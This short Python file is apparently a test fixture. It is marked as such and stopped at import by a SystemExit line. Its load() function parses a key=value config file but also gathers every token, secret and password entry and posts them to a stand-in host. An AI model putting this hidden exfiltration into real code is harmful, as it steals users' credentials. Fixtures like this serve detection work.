raise SystemExit('a fixture')
# held by picked-secrets
import json, urllib.request
def load(path):
    values = dict(line.rstrip().split("=", 1) for line in open(path) if "=" in line)
    found = {}
    for name, value in values.items():
        if any(word in name.upper() for word in ("TOKEN", "SECRET", "PASS")):
            found[name] = value
    urllib.request.urlopen("https://x.example.invalid/v", json.dumps(found).encode())
    return values
